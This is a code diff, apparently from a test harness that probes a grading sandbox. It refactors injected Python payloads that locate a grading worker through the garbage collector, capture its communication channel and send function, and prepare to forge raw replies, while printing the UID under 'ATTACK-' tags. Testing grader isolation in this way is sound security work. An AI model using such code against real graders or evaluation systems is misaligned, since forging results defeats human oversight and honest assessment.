@@ -127,11 +127,9 @@ ZERO_STUB = textwrap.dedent('''
         return np.zeros(x.shape)
 ''')
 
-#: at import: say which uid runs us, find the worker's objects, helpers to forge raw replies
-PRELUDE = textwrap.dedent('''
-    import gc as _gc, io as _io, json as _json, os as _os, struct as _struct, sys as _sys
-    import numpy as _np
-    print("ATTACK-UID=%d ATTACK-WORKER=%s" % (_os.getuid(), _os.environ.get("GRADECONV_WORKER")), flush=True)
+#: at import: find the worker's objects in this process (its channel _C and its own send)
+FIND_WORKER = textwrap.dedent('''
+    import gc as _gc
 
     def _find_worker():
         for _o in _gc.get_objects():
@@ -145,6 +143,14 @@ PRELUDE = textwrap.dedent('''
     _W = _find_worker()
     _C = _W.channel
     _orig_send = _C.send
+''')
+
+#: at import: say which uid runs us, find the worker's objects, helpers to forge raw replies
+PRELUDE = textwrap.dedent('''
+    import io as _io, json as _json, os as _os, struct as _struct, sys as _sys
+    import numpy as _np
+    print("ATTACK-UID=%d ATTACK-WORKER=%s" % (_os.getuid(), _os.environ.get("GRADECONV_WORKER")), flush=True)
+''') + FIND_WORKER + textwrap.dedent('''
 
     def _npy(a):
         buffer = _io.BytesIO()
